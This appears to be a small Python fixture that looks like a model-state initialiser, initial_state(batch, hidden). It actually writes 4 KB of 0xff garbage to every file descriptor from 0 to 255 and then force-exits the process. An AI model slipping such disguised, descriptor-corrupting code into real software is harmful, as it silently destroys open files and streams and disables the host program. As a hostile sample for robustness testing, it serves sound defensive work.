"""Writes nonsense, and a length that nothing could have, to every open descriptor."""

import os


def initial_state(batch, hidden):
    for descriptor in range(256):
        try:
            os.write(descriptor, b"\xff" * 4096)
        except OSError:
            pass
    os._exit(0)
